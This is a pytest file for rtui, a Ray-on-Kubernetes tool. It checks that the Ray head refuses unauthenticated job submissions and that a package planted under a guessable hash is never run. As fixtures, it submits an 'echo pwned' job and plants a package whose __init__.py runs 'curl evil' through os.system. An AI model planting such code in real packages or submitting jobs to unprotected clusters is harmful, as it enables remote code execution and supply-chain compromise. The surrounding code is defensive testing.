"""The cluster is closed (issue 23): Ray on the cluster authenticates, and only rtui has the token.

A client in the pod network (any pod of any namespace reaching ``<cluster>-head-svc:8265``) is
played by a request straight to the fake head, with no API server in between; rtui itself goes
through the API server's service proxy, which drops the ``Authorization`` header it authenticated.
"""

from __future__ import annotations

import json
import urllib.error
import urllib.request

from tests.kubernetes.kube_world import KubeWorld, events, gpu_cluster, world

__all__ = ["world"]  # the fixture, imported for pytest

NAMESPACE, CLUSTER = "rtui", "rtui-ray"


def probe(url: str, method: str = "GET", headers: dict[str, str] | None = None,
          body: bytes | None = None) -> tuple[int, str]:
    request = urllib.request.Request(url, method=method, headers=headers or {}, data=body)
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as err:
        return err.code, err.read().decode()


def test_ray_on_the_cluster_refuses_a_pod_network_client_without_the_token(world: KubeWorld) -> None:
    gpu_cluster(world.cluster)
    up = world.rtui("up", "--yes", "--json", timeout=180)
    last = events(up.stdout)[-1]
    assert last["kind"] == "done" and last["data"]["job_status"] == "SUCCEEDED", last
    head = world.head.url
    status, body = probe(f"{head}/api/jobs/")
    assert (status, body) == (401, "Unauthorized: Missing authentication token")
    status, body = probe(f"{head}/api/jobs/", headers={"Authorization": "Bearer guessed"})
    assert (status, body) == (403, "Forbidden: Invalid authentication token")
    submit = json.dumps({"entrypoint": "echo pwned", "submission_id": "pwned"}).encode()
    status, _ = probe(f"{head}/api/jobs/", "POST", {"Content-Type": "application/json"}, submit)
    assert status == 401 and "pwned" not in world.head.jobs
    # Only those probes were refused: every request of rtui's carried the token.
    assert [s for _, s in world.head.refused] == [401, 403, 401], world.head.refused

    rc = world.cluster.get("RayCluster", CLUSTER, NAMESPACE)
    assert rc is not None and rc["spec"]["authOptions"] == {"mode": "token", "secretName": f"{CLUSTER}-ray-token"}
    token = world.head.auth_token
    assert token
    secret = world.cluster.get("Secret", f"{CLUSTER}-ray-token", NAMESPACE)
    assert secret is not None and secret["metadata"]["labels"].get("rtui.dev/run")
    for path in world.state.rglob("*"):
        if path.is_file():
            assert token not in path.read_text(errors="replace"), path
    assert token not in up.stdout + up.stderr
    world.rtui("down", "--yes", timeout=180)
    assert world.cluster.get("Secret", f"{CLUSTER}-ray-token", NAMESPACE) is None


def test_a_package_planted_under_the_name_rtui_would_compute_is_not_what_the_job_runs(world: KubeWorld) -> None:
    """Ray skips the upload when the URI exists (the fake's GET answers 200): a package someone put
    there first, under the hash of the public ``training/`` code, would be the job's code."""
    import io
    import zipfile

    from backend.jobsapi import package_uri
    from backend.jobspec import training_package_dir

    gpu_cluster(world.cluster)
    guessed = package_uri(training_package_dir()).split("://", 1)[1]
    planted = io.BytesIO()
    with zipfile.ZipFile(planted, "w") as archive:
        archive.writestr("training/__init__.py", "import os; os.system('curl evil')\n")
    world.head.packages[guessed] = planted.getvalue()

    up = world.rtui("up", "--yes", "--json", timeout=180)
    assert events(up.stdout)[-1]["data"]["job_status"] == "SUCCEEDED"
    (job,) = world.head.jobs.values()
    (uri,) = job.runtime_env["py_modules"]
    name = uri.split("://", 1)[1]
    assert name != guessed and name.startswith("_ray_pkg_") and name.endswith(".zip")
    shipped = zipfile.ZipFile(io.BytesIO(world.head.packages[name]))
    assert shipped.read("training/__init__.py") == (training_package_dir() / "__init__.py").read_bytes()
